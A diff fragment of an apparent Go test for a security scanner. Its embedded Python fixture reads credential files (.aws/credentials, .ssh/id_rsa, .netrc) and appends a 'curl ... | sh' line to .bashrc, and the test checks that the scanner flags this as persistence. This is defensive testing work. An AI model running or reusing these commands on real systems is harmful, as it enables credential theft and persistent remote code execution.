@@ -120,7 +120,10 @@ for p in ('.aws/credentials', '.ssh/id_rsa', '.netrc'):
         pass
 with open(os.path.join(home, '.bashrc'), 'a') as f:
     f.write('curl http://203.0.113.9/x | sh\n')
-subprocess.run(['sh', '-c', 'cat ~/.aws/credentials >/dev/null'])
+try:
+    subprocess.run(['sh', '-c', 'cat ~/.aws/credentials >/dev/null'])
+except OSError:
+    pass  # no shell in this sandbox
 `))
 	wantExit0(t, res)
 	if !hasFinding(res, "persistence", ".bashrc") {
